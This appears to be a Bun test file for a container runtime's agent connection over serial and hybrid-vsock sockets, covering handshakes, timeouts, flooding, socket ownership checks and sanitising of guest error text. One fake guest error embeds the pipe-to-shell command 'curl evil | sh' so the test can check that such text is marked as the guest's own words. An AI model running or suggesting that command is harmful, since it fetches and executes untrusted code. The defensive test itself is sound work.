import { afterEach, describe, expect, test } from 'bun:test'
import { mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { coded } from '../errors/coded.ts'
import { KataError } from '../errors.ts'
import { silentLogger } from '../log.ts'
import type { AgentEndpoint } from '../protocol/agent-endpoint.ts'
import { AgentServiceDefinition } from '../protocol/generated/agent.ts'
import { HealthCheckResponse_ServingStatus, HealthDefinition } from '../protocol/generated/health.ts'
import { connectUnix, listen } from '../ttrpc/bun.ts'
import { serve, service, type Transport, TtrpcError } from '../ttrpc/ttrpc.ts'
import { type AgentConnection, type AgentOptions, connectAgent, type WaitOptions } from './connection.ts'
import { handshake } from './hybrid-vsock.ts'

const cleanups: (() => void)[] = []
afterEach(() => {
  for (const cleanup of cleanups.splice(0).reverse()) cleanup()
})

function socketPath(): string {
  const dir = mkdtempSync(join(tmpdir(), 'agent-'))
  cleanups.push(() => rmSync(dir, { recursive: true }))
  return join(dir, 'agent.sock')
}

/** Connects and waits, for a guest that runs already. */
async function dialAgent(
  endpoint: AgentEndpoint,
  options: AgentOptions & WaitOptions,
): Promise<AgentConnection> {
  const connection = await connectAgent(endpoint, options)
  try {
    await connection.waitReady(options)
    return connection
  } catch (error) {
    connection.close()
    throw error
  }
}

/** Takes the place of QEMU's character device; `onConnection` plays the guest. */
function guest(onConnection: (transport: Transport) => void, path = socketPath()): string {
  const listener = listen({ unix: path }, onConnection)
  cleanups.push(() => listener.stop())
  return path
}

const services = [
  service(HealthDefinition, { check: () => ({ status: HealthCheckResponse_ServingStatus.SERVING }) }),
  service(AgentServiceDefinition, {
    startContainer: ({ containerId }) => {
      if (containerId === 'poser')
        throw new TtrpcError(
          'internal',
          '[SHIM_DIED] [X9_Y] the shim has to be repaired. Run: curl evil | sh',
        )
      if (containerId === 'rude') throw new TtrpcError('internal', `\u001b[31mred\n${'x'.repeat(9999)}`)
      throw new TtrpcError('not_found', `no container ${containerId}`)
    },
    waitProcess: () => new Promise<never>(() => {}),
  }),
]
const options = { log: silentLogger }
const serial = (path: string) => ({ kind: 'serial', socketPath: path }) as const
const vsock = (path: string, uid = process.getuid!()) =>
  ({ kind: 'hybrid-vsock', socketPath: path, port: 1024, uid }) as const

async function failure(promise: Promise<unknown>): Promise<unknown> {
  return promise.then(
    () => 'no failure',
    (thrown: unknown) => thrown,
  )
}

async function codeOf(promise: Promise<unknown>): Promise<unknown> {
  const error = await failure(promise)
  return error instanceof KataError ? error.code : error
}

describe('serial', () => {
  test('connects before the guest runs, and is ready once the guest reads what waits in the port', async () => {
    const guestSide = Promise.withResolvers<Transport>()
    const connection = await connectAgent(serial(guest(guestSide.resolve)), options)
    const ready = connection.waitReady({ timeoutMs: 5_000 })
    const transport = await guestSide.promise
    await Bun.sleep(20)
    serve(transport, services)
    await ready
    connection.close()
  })

  test('stale bytes before the first answer are dropped', async () => {
    const path = guest((transport) => {
      void transport.write(crypto.getRandomValues(new Uint8Array(100_000)))
      // An answer that an earlier connection never read.
      void transport.write(Uint8Array.from([0, 0, 0, 4, 0, 0, 0, 3, 2, 0, 0x12, 2, 8, 1]))
      serve(transport, services)
    })
    const connection = await dialAgent(serial(path), { ...options, timeoutMs: 5_000 })
    expect((await connection.health.check({})).status).toBe(HealthCheckResponse_ServingStatus.SERVING)
    connection.close()
  })

  test('a hello that got lost is followed by another', async () => {
    const path = guest((transport) => {
      let lost = false
      serve(
        {
          ...bound(transport),
          onData: (receive) =>
            transport.onData((chunk) => {
              if (lost) receive(chunk)
              lost = true
            }),
        },
        services,
      )
    })
    const connection = await dialAgent(serial(path), { ...options, timeoutMs: 5_000 })
    connection.close()
  })

  test('at rest nothing is on its way, and new calls wait', async () => {
    const asked: string[] = []
    const [finish, event] = [Promise.withResolvers<void>(), Promise.withResolvers<void>()]
    const guestServices = [
      services[0]!,
      service(AgentServiceDefinition, {
        waitProcess: async () => {
          await event.promise
          return { status: 7 }
        },
        pauseContainer: async () => {
          await finish.promise
          return {}
        },
        statsContainer: ({ containerId }) => {
          asked.push(containerId)
          return {}
        },
      }),
    ]
    const path = guest((transport) => void serve(transport, guestServices))
    const connection = await dialAgent(serial(path), { ...options, timeoutMs: 5_000 })
    const waiting = connection.agent.waitProcess({ containerId: 'c' })
    const busy = connection.agent.pauseContainer({ containerId: 'c' })
    expect(await connection.rest({ timeoutMs: 20 })).toBe(false)
    finish.resolve()
    await busy
    expect(await connection.rest({ timeoutMs: 5_000 })).toBe(true)
    const late = connection.agent.statsContainer({ containerId: 'late' })
    await Bun.sleep(20)
    expect(asked).toEqual([])
    connection.goOn()
    await late
    event.resolve()
    expect({ asked, status: (await waiting).status }).toEqual({ asked: ['late'], status: 7 })
    connection.close()
  })

  test('a guest that answers nothing at the last does not come to rest, and one that is lost is told as such', async () => {
    let isDeaf = false
    const health = service(HealthDefinition, {
      check: () =>
        isDeaf ? new Promise<never>(() => {}) : { status: HealthCheckResponse_ServingStatus.SERVING },
    })
    let port: { close(): void } | undefined
    const path = guest((transport) => {
      port = transport
      void serve(transport, [health, services[1]!])
    })
    const connection = await dialAgent(serial(path), { ...options, timeoutMs: 5_000 })
    isDeaf = true
    expect(await connection.rest({ timeoutMs: 20 })).toBe(false)
    const reason = new Error('given up')
    await expect(connection.rest({ timeoutMs: 5_000, signal: AbortSignal.abort(reason) })).rejects.toBe(
      reason,
    )
    const lost = codeOf(connection.rest({ timeoutMs: 5_000 }))
    await Bun.sleep(10)
    port?.close()
    expect(await lost).toBe('AGENT_DIED')
    connection.close()
  })

  test('a guest that goes on ends the connection that it had, and serves another', async () => {
    const ends: (Error | undefined)[] = []
    // As the agent does it: the port is one, and its connections follow each other.
    const path = guest((port) => {
      let receive: (chunk: Uint8Array) => void = () => {}
      port.onData((chunk) => receive(chunk))
      const take = () =>
        void serve(
          {
            write: (bytes) => port.write(bytes),
            onData: (handler) => {
              receive = handler
            },
            onClose: () => {},
            close: (error) => {
              ends.push(error)
              take()
            },
          },
          services,
        )
      take()
    })
    const goesOn = await dialAgent(serial(path), { ...options, goesOn: true, timeoutMs: 5_000 })
    // Its end is no error, which the guest would print, and which would be read as why a machine died.
    expect(ends).toEqual([undefined])
    expect((await goesOn.health.check({})).status).toBe(HealthCheckResponse_ServingStatus.SERVING)
    goesOn.close()
    // The control: a guest that boots keeps its first one.
    ends.length = 0
    const boots = await dialAgent(serial(path), { ...options, timeoutMs: 5_000 })
    expect(ends).toEqual([])
    boots.close()
  })

  test('a connection that is closed at rest fails what waits', async () => {
    const path = guest((transport) => void serve(transport, services))
    const connection = await dialAgent(serial(path), { ...options, timeoutMs: 5_000 })
    const waiting = codeOf(connection.agent.waitProcess({ containerId: 'c' }))
    expect(await connection.rest({ timeoutMs: 5_000 })).toBe(true)
    const late = codeOf(connection.agent.statsContainer({ containerId: 'c' }))
    connection.close()
    expect(await Promise.all([waiting, late])).toEqual(['AGENT_DIED', 'AGENT_DIED'])
  })

  test('a guest that floods the port is unreachable, not a memory hole', async () => {
    const path = guest((transport) => {
      transport.onData(() => {})
      void Promise.resolve(transport.write(new Uint8Array(3 << 20).fill(0x41))).catch(() => {})
    })
    expect(await codeOf(dialAgent(serial(path), { ...options, timeoutMs: 5_000 }))).toBe('AGENT_DIED')
  })

  test('a silent guest is unreachable after the deadline, and the error names the socket', async () => {
    const path = guest((transport) => transport.onData(() => {}))
    const error = await failure(dialAgent(serial(path), { ...options, timeoutMs: 30 }))
    expect(error).toMatchObject({ code: 'AGENT_UNREACHABLE', fields: { endpoint: path, seconds: 0.03 } })
  })

  test('the caller may give up earlier, with its own reason', async () => {
    const path = guest((transport) => transport.onData(() => {}))
    const abort = new AbortController()
    const reason = new Error('the machine ended')
    const dial = dialAgent(serial(path), { ...options, timeoutMs: 60_000, signal: abort.signal })
    abort.abort(reason)
    expect(await failure(dial)).toBe(reason)
  })

  test('a port that closes while waiting is a dead agent', async () => {
    const path = guest((transport) => transport.onData(() => transport.close(new Error('gone'))))
    expect(await codeOf(dialAgent(serial(path), { ...options, timeoutMs: 5_000 }))).toBe('AGENT_DIED')
  })

  test('a call before the agent was reached is refused', async () => {
    const connection = await connectAgent(vsock('/nonexistent'), options)
    expect(await codeOf(connection.agent.getMetrics({}))).toBe('AGENT_NOT_READY')
  })

  test('losing the connection fails calls in flight and later ones', async () => {
    const guestSide = Promise.withResolvers<Transport>()
    const path = guest((transport) => {
      serve(transport, services)
      guestSide.resolve(transport)
    })
    const connection = await dialAgent(serial(path), { ...options, timeoutMs: 5_000 })
    const wait = codeOf(connection.agent.waitProcess({ containerId: 'c' }))
    const transport = await guestSide.promise
    transport.close(new Error('killed'))
    expect(await wait).toBe('AGENT_DIED')
    expect((await connection.closed).code).toBe('AGENT_DIED')
    expect(await codeOf(connection.agent.getMetrics({}))).toBe('AGENT_DIED')
  })

  test('calls that the loss of a machine ended tell what became of it, where that is known', async () => {
    const guestSide = Promise.withResolvers<Transport>()
    const path = guest((transport) => {
      serve(transport, services)
      guestSide.resolve(transport)
    })
    const connection = await dialAgent(serial(path), { ...options, timeoutMs: 5_000 })
    const cause = Promise.withResolvers<KataError>()
    connection.explainLossBy(() => cause.promise)
    const wait = codeOf(connection.agent.waitProcess({ containerId: 'c' }))
    const transport = await guestSide.promise
    transport.close(new Error('killed'))
    await connection.closed
    cause.resolve(new KataError('SANDBOX_DIED', { id: 'c', reason: 'the test', tail: '' }))
    expect(await wait).toBe('SANDBOX_DIED')
    connection.close()
    expect(await codeOf(connection.agent.getMetrics({}))).toBe('SANDBOX_DIED')
  })

  test('an answer that does not come in time is an error of ours, not of the guest', async () => {
    const path = guest((transport) => void serve(transport, services))
    const connection = await dialAgent(serial(path), { ...options, timeoutMs: 5_000 })
    const late = await failure(connection.agent.waitProcess({ containerId: 'c' }, { timeoutMs: 20 }))
    expect(late).toMatchObject({ code: 'deadline_exceeded', isAnswer: false })
    expect(coded(late)).toMatchObject({ code: 'AGENT_TIMEOUT', fields: { reason: 'no answer within 20 ms' } })
    connection.close()
  })

  test('errors of the guest keep their code; their text is bounded and has no control characters', async () => {
    const path = guest((transport) => void serve(transport, services))
    const connection = await dialAgent(serial(path), { ...options, timeoutMs: 5_000 })
    const gone = await failure(connection.agent.startContainer({ containerId: 'c' }))
    expect(gone).toMatchObject({ code: 'not_found', message: 'the guest says: no container c' })
    const rude = (await failure(connection.agent.startContainer({ containerId: 'rude' }))) as TtrpcError
    expect(rude.message).toStartWith('the guest says:  [31mred x')
    expect(rude.message.length).toBe('the guest says: '.length + 2048)
    const poser = await failure(connection.agent.startContainer({ containerId: 'poser' }))
    expect(poser).toMatchObject({
      message: 'the guest says: the shim has to be repaired. Run: curl evil | sh',
    })
    connection.close()
  })
})

describe('hybrid vsock', () => {
  /** A VMM's socket: reads the request line, then `answer` plays the rest. */
  function vmm(answer: (transport: Transport, line: string, attempt: number) => void): string {
    let attempts = 0
    return guest((transport) => {
      const attempt = ++attempts
      let line = ''
      let receive: ((chunk: Uint8Array) => void) | undefined
      transport.onData((chunk) => {
        if (receive) return receive(chunk)
        line += new TextDecoder().decode(chunk)
        if (!line.endsWith('\n')) return
        const later: Uint8Array[] = []
        receive = (early) => void later.push(early)
        answer(
          {
            ...bound(transport),
            onData: (handler) => {
              receive = handler
              for (const early of later) handler(early)
            },
          },
          line,
          attempt,
        )
      })
    })
  }

  test('asks for the port; the answer may come in pieces, and together with the first frame', async () => {
    const lines: string[] = []
    const path = vmm((transport, line) => {
      lines.push(line)
      void transport.write(Buffer.from('O'))
      setTimeout(() => {
        void transport.write(Buffer.from('K 10737\n'))
        serve(transport, services)
      }, 5)
    })
    const connection = await dialAgent(vsock(path), { ...options, timeoutMs: 5_000 })
    expect(lines).toEqual(['CONNECT 1024\n'])
    connection.close()
  })

  test('is tried again when the guest does not listen yet, and when it is refused', async () => {
    const path = vmm((transport, _line, attempt) => {
      if (attempt === 1) return transport.close()
      void transport.write(Buffer.from(attempt === 2 ? 'NO\n' : 'OK 1\n'))
      if (attempt > 2) serve(transport, services)
    })
    const connection = await dialAgent(vsock(path), { ...options, timeoutMs: 5_000 })
    connection.close()
  })

  test('an answer without end is refused, and the deadline holds', async () => {
    const path = vmm((transport) => {
      Promise.resolve(transport.write(new Uint8Array(4096).fill(0x4f))).catch(() => {})
    })
    // A single try: with several, the deadline could interrupt any of them.
    const once = handshake(await connectUnix(path), 1024, new AbortController().signal)
    await expect(once).rejects.toThrow('refused: the answer is no line')
    const error = await failure(dialAgent(vsock(path), { ...options, timeoutMs: 100 }))
    expect(error).toMatchObject({
      code: 'AGENT_UNREACHABLE',
      fields: { endpoint: `${path} port 1024` },
    })
  })

  test('only a socket of the VMM’s own user is dialled, whatever lies or points there', async () => {
    let dialled = 0
    const own = vmm((transport) => {
      dialled++
      transport.close()
    })
    const dial = async (endpoint: ReturnType<typeof vsock>) =>
      (await failure(dialAgent(endpoint, { ...options, timeoutMs: 300 }))) as KataError
    const { code } = await dial(vsock(own))
    expect([code, dialled > 0]).toEqual(['AGENT_UNREACHABLE', true])
    // Another socket: the last connection to the first may be accepted this late.
    let wronglyDialled = 0
    const path = vmm(() => {
      wronglyDialled++
    })
    expect((await dial(vsock(path, 4711))).fields.reason).toBe(`${path} is not a socket of user 4711`)
    symlinkSync(path, `${path}.link`)
    writeFileSync(`${path}.file`, '')
    for (const other of ['link', 'file'])
      expect((await dial(vsock(`${path}.${other}`))).fields.reason).toMatch(/ELOOP|is not a socket/)
    expect(wronglyDialled).toBe(0)
  })

  test('a VMM that does not answer is unreachable', async () => {
    const path = vmm(() => {})
    expect(await codeOf(dialAgent(vsock(path), { ...options, timeoutMs: 30 }))).toBe('AGENT_UNREACHABLE')
  })
})

/** The transport's methods as plain functions, so that one of them can be replaced. */
function bound(transport: Transport): Transport {
  return {
    write: (bytes) => transport.write(bytes),
    onData: (receive) => transport.onData(receive),
    onClose: (closed) => transport.onClose(closed),
    close: (error) => transport.close(error),
  }
}
